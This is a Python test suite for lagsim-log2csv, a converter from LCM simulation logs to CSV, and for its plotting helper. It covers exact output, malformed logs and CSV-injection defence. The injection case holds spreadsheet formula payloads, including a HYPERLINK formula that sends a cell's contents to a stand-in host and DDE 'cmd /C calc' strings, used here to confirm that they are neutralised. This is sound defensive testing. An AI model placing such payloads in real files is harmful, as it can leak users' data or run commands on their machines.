#!/usr/bin/env python3
"""lagsim-log2csv against logs built here by lcm-gen's Python encoder (an encoder the C
decoder under test shares nothing with), and against hostile logs.

    test_log2csv.py --log2csv BIN --types DIR CASE     (CASE: exact | hostile | injection)
"""
import argparse
import csv
import os
import re
import subprocess
import sys
import tempfile

import lcmlog

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from lagsim_check import check, verdict  # noqa: E402  (tests/common: the one harness)


def run(binary, *args, timeout=20):
    p = subprocess.run([binary, *args], capture_output=True, text=True, timeout=timeout)
    check(p.returncode >= 0 and p.returncode < 128,
          f"{' '.join(args)}: no crash (exit {p.returncode})")
    return p


def rows(path):
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def case_exact(a, t, tmp):
    logf = os.path.join(tmp, "run.lcm")
    with open(logf, "wb") as f:
        f.write(lcmlog.log(lcmlog.sample_run(t, "T")))
    out = os.path.join(tmp, "out")
    p = run(a.log2csv, logf, "-o", out)
    print(p.stdout, p.stderr)
    check(p.returncode == 0, "a valid log converts, exit 0")
    files = sorted(os.listdir(out))
    check(files == ["T_COMMAND.csv", "T_CONTROL.csv", "T_EVENT.csv", "T_SCENE.csv", "T_STATE.csv",
                    "T_STATUS.csv"], f"one CSV per lagsim channel, none for others: {files}")

    st = rows(os.path.join(out, "T_STATE.csv"))
    check(list(st[0].keys()) == ["t", "wall_time", "log_time", "step", "generation", "theta0",
                                 "theta1", "theta2",
                                 "theta0_dot", "theta1_dot", "theta2_dot", "theta0_effort",
                                 "theta1_effort", "theta2_effort"], "state columns: joints by name")
    # the state at t = 0 after the reset comes twice, unchanged (a daemon waiting publishes
    # it again): one row, the copy counted in the summary
    check(len(st) == 5, f"5 states written, the copy not ({len(st)})")
    raw = open(os.path.join(out, "T_STATE.csv")).read()
    check(raw.startswith("t,wall_time,log_time,step,generation,theta0,theta1,theta2,"
                         "theta0_dot,") and '"' not in raw,
          "no quotes where RFC 4180 needs none: the header's names as they are")
    exact = True
    for r, k in zip(st, (0, 1, 2, 4)):
        exact &= float(r["t"]) == k * 0.01 and int(r["step"]) == k * 10
        exact &= float(r["theta0"]) == k * 0.1 and float(r["theta1"]) == -k * 0.2
        exact &= float(r["theta2"]) == 1e-300 and float(r["theta0_dot"]) == k * 1.5
        exact &= float(r["theta2_dot"]) == -2.5 and float(r["theta0_effort"]) == k * 0.25
    check(exact, "every state value reread bit for bit (the shortest decimal that reads back)")
    check(st[0]["wall_time"] == "1700000000.000000", "wall_time: utime in s, exact")
    check(st[0]["log_time"] == "1700000000.010000", "log_time: the record's timestamp in s")

    cm = rows(os.path.join(out, "T_COMMAND.csv"))
    check(len(cm) == 5 and cm[3]["joint"] == "theta0" and float(cm[3]["effort"]) == 1.0 and
          cm[4]["joint"] == "" and cm[4]["effort"] == "", "commands: one row per joint; a heartbeat one empty row")
    ct = rows(os.path.join(out, "T_CONTROL.csv"))
    check(len(ct) == 1 and ct[0]["name"] == "reset_to" and ct[0]["q"] == "0 0.1 0.2",
          "control: request by name, q")
    # a SET request: named, with the key and value it asked for
    setlog = os.path.join(tmp, "set.lcm")
    with open(setlog, "wb") as f:
        f.write(lcmlog.log([("T_CONTROL", t.control(8, key="parameters.m2", value="1.25"))]))
    ps = run(a.log2csv, setlog, "-q", "-o", os.path.join(tmp, "set"))
    cs = rows(os.path.join(tmp, "set", "T_CONTROL.csv"))
    check(ps.returncode == 0 and len(cs) == 1 and cs[0]["name"] == "set" and
          cs[0]["key"] == "parameters.m2" and cs[0]["value"] == "1.25",
          "control: a SET named, its key and value kept (%s)" % (cs[0] if cs else None))
    ev = rows(os.path.join(out, "T_EVENT.csv"))
    check(len(ev) == 3 and ev[0]["detail"] == 'say "hi", newline' and ev[1]["kind"] == "limit" and
          float(ev[1]["value"]) == -0.5, "events: quoted detail, control characters replaced")
    sc = rows(os.path.join(out, "T_SCENE.csv"))
    check(len(sc) == 1 and sc[0]["effects"] == "limits" and "theta0:actuated:q0=0:qd0=0:limits=-1..1" in sc[0]["joints"]
          and "m0=1.5" in sc[0]["parameters"], "scene: effects, limits, parameters")
    ss = rows(os.path.join(out, "T_STATUS.csv"))
    # a column for every field of status_t (lcm-gen's Python type: not the tool's own list)
    want = {"daemon_wall_time" if f == "wall_time" else f
            for f in t.m.status_t.__slots__ if f not in ("utime", "sim_time")}
    have = set(ss[0].keys()) if ss else set()
    check(want <= have, "status: a column for every status_t field (missing: %s)"
          % sorted(want - have))
    check(len(ss) == 1 and float(ss[0]["energy"]) == 7.25 and ss[0]["run_state"] == "running",
          "status: every field")
    check(float(ss[0]["error_estimate"]) == 2.5e-7 and ss[0]["error_joint"] == "theta1" and
          float(ss[0]["error_budget"]) == 1e-8 and ss[0]["error_warnings"] == "3",
          "status: the live error estimate")

    s = p.stdout
    check("T_STATE: joint_state_t, 6 messages" in s, "summary: state count")
    check("gaps 1 (1 states missing; period 10 ticks, from the scene), resets 1, repeats 0; "
          "copies 1 (a state sent again unchanged: one row)" in s,
          "summary: one gap with one state missing, one reset, one copy")
    check("rejected 3 (unknown joint 2," in s and "stale 1)" in s, "summary: rejected commands")
    check("events: start 1 limit 2" in s, "summary: events by kind")
    check("other channels (not lagsim's): OTHER_CHANNEL (1)" in s, "summary: other channels")

    # --channel selects; the rest is not written
    out2 = os.path.join(tmp, "out2")
    p = run(a.log2csv, logf, "-o", out2, "--channel", "T_STATE", "-q")
    check(p.returncode == 0 and p.stdout == "" and sorted(os.listdir(out2)) == ["T_STATE.csv"],
          "--channel T_STATE -q: that CSV only, nothing printed")

    # lagsim-plot draws it (columns by name) and refuses what is not a state CSV
    plot = os.path.join(os.path.dirname(a.log2csv), "lagsim-plot")
    p = subprocess.run([plot, os.path.join(out, "T_STATE.csv"), "-o", os.path.join(tmp, "p.png")],
                       capture_output=True, text=True, timeout=60)
    png = os.path.join(tmp, "p.png")
    check(p.returncode == 0 and os.path.exists(png) and open(png, "rb").read(8) == b"\x89PNG\r\n\x1a\n",
          f"lagsim-plot draws a PNG from a log's state CSV ({p.stderr.strip()})")
    p = subprocess.run([plot, os.path.join(out, "T_EVENT.csv")], capture_output=True, text=True, timeout=60)
    check(p.returncode == 2 and "no joint columns" in p.stderr, "lagsim-plot: an event CSV is refused, exit 2")


def case_hostile(a, t, tmp):
    cases = lcmlog.corpus_cases(t, os.path.join(tmp, "corpus"))
    expect = {  # name: (exit code, text in stderr or stdout)
        "valid-run.lcm": (0, "T_STATE: joint_state_t, 6 messages"),
        "empty.lcm": (0, "records: 0"),
        "truncated-mid-record.lcm": (0, "ends inside a record (44 bytes cut short"),
        "huge-data-length.lcm": (1, "no complete LCM log record in its 43 bytes: not an LCM log"),
        "negative-data-length.lcm": (1, "no complete LCM log record in its 35 bytes"),
        "huge-channel-length.lcm": (1, "no complete LCM log record in its 35 bytes"),
        "zeros.lcm": (1, "no complete LCM log record in its 256 bytes: not an LCM log"),
        "bad-sync-then-record.lcm": (0, "damaged in 1 place(s): 7 bytes passed over"),
        "state-negative-name-length.lcm": (0, "T_STATE: joint_state_t, 1 messages, 1 undecodable"),
        "state-name-without-nul.lcm": (0, "1 undecodable"),
        "state-huge-num-joints.lcm": (0, "1 undecodable"),
        "step-jump-2e62.lcm": (0, "resets 1"),
    }
    for name, (rc, text) in expect.items():
        out = os.path.join(tmp, "o-" + name)
        p = run(a.log2csv, os.path.join(tmp, "corpus", name), "-o", out)
        both = p.stdout + p.stderr
        check(p.returncode == rc and text in both, f"{name}: exit {rc} and '{text}' (got {p.returncode}: {both.strip()[-300:]})")
    p = run(a.log2csv, "/dev/zero", "-o", os.path.join(tmp, "oz"), timeout=10)
    check(p.returncode == 1 and "not an LCM log" in p.stderr, "/dev/zero: not an LCM log, after a bounded search")
    p = run(a.log2csv, tmp, "-o", os.path.join(tmp, "od"))
    check(p.returncode == 2 and "is a directory" in p.stderr, "a directory: exit 2, said so")
    p = run(a.log2csv, os.path.join(tmp, "nope.lcm"), "-o", os.path.join(tmp, "on"))
    check(p.returncode == 2 and "No such file" in p.stderr, "a missing file: exit 2")
    p = run(a.log2csv, os.path.join(tmp, "corpus", "valid-run.lcm"), "-o", "/proc/self/nope/x")
    check(p.returncode == 2 and "cannot create" in p.stderr, "an unwritable output: exit 2")
    # 2 MiB of junk after a good record: the scan for a sync word gives up, bounded
    junk = os.path.join(tmp, "junk.lcm")
    with open(junk, "wb") as f:
        f.write(lcmlog.log(lcmlog.sample_run(t)[:1]) + b"\x55" * (2 << 20))
    p = run(a.log2csv, junk, "-o", os.path.join(tmp, "oj"))
    check(p.returncode == 1 and "no LCM log record in the 1048576 bytes after byte" in p.stderr,
          "2 MiB without a sync word: bounded scan, exit 1")
    # a record over 1 MiB on another channel is passed over; what follows is read
    big = os.path.join(tmp, "big.lcm")
    recs = lcmlog.sample_run(t)
    with open(big, "wb") as f:
        f.write(lcmlog.log(recs[:1] + [("BIG", b"\0" * ((1 << 20) + 1))] + recs[1:]))
    p = run(a.log2csv, big, "-o", os.path.join(tmp, "ob"))
    check(p.returncode == 0 and "1 larger than 65536 bytes passed over" in p.stdout and "T_STATE: joint_state_t, 6 messages" in p.stdout,
          "a 1 MiB + 1 record is skipped, the rest read")


# Text a spreadsheet would read as a formula (OWASP's CSV-injection list), with the bytes
# that split a CSV record: comma, quote, LF, CR, tab.
WORST = ('a,b\n=HYPERLINK("http://e.x/?"&A1,"\u2026")', "=1+1", "-2+3+cmd|' /C calc'!A0", "+x",
         "@SUM(A1)", "\t=tab", "\r\n=cr", ' "q",=spaced')
FORMULA = "=+-@\t\r"


def as_text(s):
    """What a text field should read as: control characters as spaces, and a leading
    apostrophe where its first non-blank character would start a formula."""
    s = "".join(" " if ord(c) < 0x20 or c == "\x7f" else c for c in s)
    return "'" + s if s.lstrip(" ")[:1] in tuple("=+-@") else s


def is_numbers(cell):
    try:
        return [float(x) for x in cell.split(" ")] != []
    except ValueError:
        return False


def case_injection(a, t, tmp):
    """A log whose every string is hostile: each CSV parses into whole records of the
    header's width, no text cell starts a formula, numbers stay numbers, and lagsim-plot
    draws the state CSV."""
    j = list(WORST)
    recs = [("T_SCENE", t.scene(model="=cmd|'/C calc'!A0", joints=j, params=(("-p", -1.5), ("@q", 2.0)),
                                effects="+limits", limits={j[0]: (-1.0, 1.0)}))]
    for k in range(3):
        recs.append(("T_STATE", t.state(k * 0.01, k * 10, j, [-0.5 - k] * 8, [-1e-300] * 8, [-2.0] * 8)))
        recs.append(("T_COMMAND", t.command(k * 0.01, [j[1], j[6]], [-1.5, 2.5])))
    recs.append(("T_EVENT", t.event(0.01, 10, "=kind", "@joint", -0.5, "-1+1\r\n=x,\"y\"")))
    recs.append(("T_EVENT", t.event(0.02, 20, "\t+k", j[0], -0.25, j[7])))
    recs.append(("T_STATUS", t.status(0.02, 20, run_state="\x7f=run")))
    recs.append(("T_CONTROL", t.control(5, 0, [-0.5, 0.1] + [0.0] * 6, [-1.0] * 8)))
    logf = os.path.join(tmp, "evil.lcm")
    with open(logf, "wb") as f:
        f.write(lcmlog.log(recs))
    out = os.path.join(tmp, "out")
    p = run(a.log2csv, logf, "-o", out)
    check(p.returncode == 0, f"a log of hostile strings converts, exit 0 ({p.stderr.strip()})")
    want_rows = {"T_SCENE.csv": 1, "T_STATE.csv": 3, "T_COMMAND.csv": 6, "T_EVENT.csv": 2,
                 "T_STATUS.csv": 1, "T_CONTROL.csv": 1}
    tables = {}
    for name, n in want_rows.items():
        path = os.path.join(out, name)
        if not os.path.exists(path):
            check(False, f"{name} written")
            continue
        raw = open(path, newline="").read()
        with open(path, newline="") as f:
            table = list(csv.reader(f))
        tables[name] = table
        check(raw.count("\n") == n + 1 and "\r" not in raw,
              f"{name}: one line per record ({n} + header; got {raw.count(chr(10))} lines)")
        width = len(table[0])
        check(len(table) == n + 1 and all(len(r) == width for r in table),
              f"{name}: {n} rows of the header's {width} columns (got {[len(r) for r in table]})")
        bad = [c for r in table for c in r if c[:1] in tuple(FORMULA) and not is_numbers(c)]
        check(not bad, f"{name}: no text cell starts a formula ({bad[:3]})")
    st = tables.get("T_STATE.csv")
    if st:
        names = [as_text(n) for n in j]
        check(st[0] == ["t", "wall_time", "log_time", "step", "generation"] + names +
              [n + "_dot" for n in names] + [n + "_effort" for n in names],
              f"state header: every joint's name kept, as text ({st[0][5:7]})")
        check(st[1][5] == "-0.5" and st[3][5] == "-2.5" and st[1][13] == "-1e-300" and st[1][21] == "-2",
              "state cells: negative numbers stay numbers")
    ev = tables.get("T_EVENT.csv")
    if ev:
        check(ev[1][4:8] == ["'=kind", "'@joint", "-0.5", "'-1+1  =x,\"y\""] and ev[2][4] == "' +k" and
              ev[2][5] == as_text(j[0]) and ev[2][7] == as_text(j[7]),
              f"events: kind, joint, detail as text, value a number ({ev[1][4:8]})")
    cm = tables.get("T_COMMAND.csv")
    if cm:
        check([r[4:6] for r in cm[1:3]] == [[as_text(j[1]), "-1.5"], [as_text(j[6]), "2.5"]],
              f"commands: joint as text, effort a number ({cm[1][4:6]})")
    sc = tables.get("T_SCENE.csv")
    if sc:
        check(sc[1][2] == as_text("=cmd|'/C calc'!A0") and sc[1][10] == "'+limits" and
              sc[1][11] == "'-p=-1.5 @q=2" and sc[1][12].startswith(as_text(j[0]) + ":actuated:q0=0"),
              f"scene: model, effects, parameters, joints as text ({sc[1][2]}, {sc[1][11]})")
    ss = tables.get("T_STATUS.csv")
    if ss:
        check(ss[1][ss[0].index("run_state")] == "' =run", "status: run state as text (DEL, then =)")
    ct = tables.get("T_CONTROL.csv")
    if ct:
        check(ct[1][5] == "-0.5 0.1 0 0 0 0 0 0" and ct[1][6].startswith("-1 -1"),
              f"control: q and qd stay lists of numbers ({ct[1][5]})")

    # lagsim-plot reads the quoted header and draws every joint from its own columns
    plot = os.path.join(os.path.dirname(a.log2csv), "lagsim-plot")
    png, gp = os.path.join(tmp, "evil.png"), os.path.join(tmp, "evil.gp")
    p = subprocess.run([plot, os.path.join(out, "T_STATE.csv"), "-o", png, "--gnuplot", gp],
                       capture_output=True, text=True, timeout=60)
    check(p.returncode == 0 and os.path.exists(png) and open(png, "rb").read(8) == b"\x89PNG\r\n\x1a\n",
          f"lagsim-plot draws the state CSV of hostile joint names ({p.stderr.strip()[-300:]})")
    script = open(gp).read() if os.path.exists(gp) else ""
    for i, n in enumerate(j):
        title = as_text(n).replace("\\", "\\\\").replace('"', '\\"')
        check(re.search(r'using 1:%d (axes x1y1 )?with lines (lt \d+ )?lw 1.5 title "%s"' % (6 + i, re.escape(title)), script) and
              re.search(r'using 1:%d (axes x1y1 )?with lines (lt \d+ )?lw 1.5 title "%s_dot"' % (14 + i, re.escape(title)), script),
              f"lagsim-plot: joint {i} ({n!r}) drawn from columns {6 + i} and {14 + i}")


def plot_script(a, csv_path, tmp, name):
    plot = os.path.join(os.path.dirname(a.log2csv), "lagsim-plot")
    png, gp = os.path.join(tmp, name + ".png"), os.path.join(tmp, name + ".gp")
    p = subprocess.run([plot, csv_path, "-o", png, "--gnuplot", gp], capture_output=True, text=True, timeout=60)
    check(p.returncode == 0 and os.path.exists(png) and open(png, "rb").read(8) == b"\x89PNG\r\n\x1a\n",
          f"{name}: lagsim-plot draws a PNG ({p.stderr.strip()[-300:]})")
    return open(gp).read() if os.path.exists(gp) else ""


def panels(script):
    """The script's panels: the lines from one 'set ylabel' to the next."""
    out, cur = [], None
    for line in script.splitlines():
        if line.startswith("set ylabel"):
            cur = []
            out.append(cur)
        if cur is not None:
            cur.append(line)
    return ["\n".join(p) for p in out]


def case_plot(a, t, tmp):
    """A cart-pole's log (x in m, actuated; theta in rad, free) and an energy that varies
    by 3e-10 J: lagsim-plot draws metres and radians on their own axes, leaves out the
    unactuated joint's effort (zero by definition), and gives the energy a span of at least
    1e-6 of its size, so that round-off is drawn flat; a real motion is scaled to fit."""
    import math
    recs = [("T_SCENE", t.scene(model="cartpole", joints=("x", "theta"), params=(("m0", 1.0),)))]
    energies = []
    for k in range(101):
        s = k * 0.01
        recs.append(("T_STATE", t.state(s, k * 10, ("x", "theta"), [0.1 * math.sin(s), 0.05 * math.cos(s)],
                                        [0.1 * math.cos(s), -0.05 * math.sin(s)], [math.sin(s), 0.0])))
        if k % 10 == 0:
            energies.append(1.234 + 3e-10 * math.sin(10 * s))
            recs.append(("T_STATUS", _status_energy(t, s, k * 10, energies[-1])))
    # a stick that may fly publishes the flying stick's joints: units from that model
    recs.append(("S_SCENE", t.scene(model="stick", prefix="S", joints=("x", "phi", "h"))))
    recs.append(("U_SCENE", t.scene(model="nope", prefix="U", joints=("a", "b"))))
    logf = os.path.join(tmp, "cp.lcm")
    with open(logf, "wb") as f:
        f.write(lcmlog.log(recs))
    out = os.path.join(tmp, "out")
    p = run(a.log2csv, logf, "-o", out, "-q")
    check(p.returncode == 0, "the cart-pole log converts")
    sc = rows(os.path.join(out, "T_SCENE.csv"))
    check(sc[0]["joints"] == "x:actuated:q0=0:qd0=0:unit=m theta:free:q0=0:qd0=0:unit=rad",
          f"scene CSV: each joint's unit, m for the cart, rad for the pole ({sc[0]['joints']})")
    check(rows(os.path.join(out, "S_SCENE.csv"))[0]["joints"].split(" ")[2].endswith(":unit=m") and
          ":unit=rad" in rows(os.path.join(out, "S_SCENE.csv"))[0]["joints"].split(" ")[1],
          "scene CSV: a stick that may fly: x m, phi rad, h m")
    check("unit=" not in rows(os.path.join(out, "U_SCENE.csv"))[0]["joints"],
          "scene CSV: joints of no model of the core's table: no unit")

    script = plot_script(a, os.path.join(out, "T_STATE.csv"), tmp, "cp")
    ps = panels(script)
    check(len(ps) == 4, f"4 panels: q, q dot, effort, energy ({len(ps)})")
    if len(ps) == 4:
        q, qd, eff, en = ps
        check("set ylabel 'q (m)'" in q and "set y2label 'q (rad)'" in q and
              re.search(r"using 1:6 axes x1y1 .*title \"x\"", q) and re.search(r"using 1:7 axes x1y2 .*title \"theta", q),
              "q: x on the left axis in m, theta on the right one in rad")
        check("set ylabel 'q dot (m/s)'" in qd and "set y2label 'q dot (rad/s)'" in qd and
              re.search(r"using 1:8 axes x1y1", qd) and re.search(r"using 1:9 axes x1y2", qd),
              "q dot: m/s left, rad/s right")
        check("using 1:10 " in eff and "using 1:11 " not in eff and "theta_effort" not in script and
              "set ylabel 'effort (N)'" in eff, "effort: the cart's force (N); the free pole's zero effort not drawn")
        check("yrange" not in q and "yrange" not in qd and "yrange" not in eff,
              "a real motion (0.1 m, 0.05 rad, 1 N) is scaled by gnuplot, no span forced")
        m = re.search(r"set yrange \[(\S+):(\S+)\]", en)
        lo, hi = (float(m.group(1)), float(m.group(2))) if m else (0.0, 0.0)
        check(m and hi - lo >= 1e-6 * 1.234 * (1 - 1e-9) and lo <= min(energies) and hi >= max(energies),
              f"energy varying 3e-10 J: drawn over a span >= 1e-6 of 1.234 J that holds it ({lo!r}..{hi!r})")

    # the state CSV alone (no scene beside it): one axis "m or rad"; a zero effort column left out
    alone = os.path.join(tmp, "alone")
    os.makedirs(alone)
    with open(os.path.join(out, "T_STATE.csv")) as f, open(os.path.join(alone, "T_STATE.csv"), "w") as g:
        g.write(f.read())
    script = plot_script(a, os.path.join(alone, "T_STATE.csv"), tmp, "alone")
    check("set ylabel 'q (m or rad)'" in script and "axes x1y2" not in script,
          "without a scene: one axis, m or rad")
    check("using 1:10 " in script and "using 1:11 " not in script,
          "without a scene: the effort column that is zero throughout is not drawn")


def _status_energy(t, sim_time, step, energy):
    s = t.m.status_t.decode(t.status(sim_time, step))
    s.energy = energy
    return s.encode()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--log2csv", required=True)
    ap.add_argument("--types", required=True)
    ap.add_argument("case", choices=["exact", "hostile", "injection", "plot"])
    a = ap.parse_args()
    t = lcmlog.Types(a.types)
    with tempfile.TemporaryDirectory(prefix="lagsim-log2csv-") as tmp:
        {"exact": case_exact, "hostile": case_hostile, "injection": case_injection,
         "plot": case_plot}[a.case](a, t, tmp)
    return verdict(a.case)


if __name__ == "__main__":
    sys.exit(main())
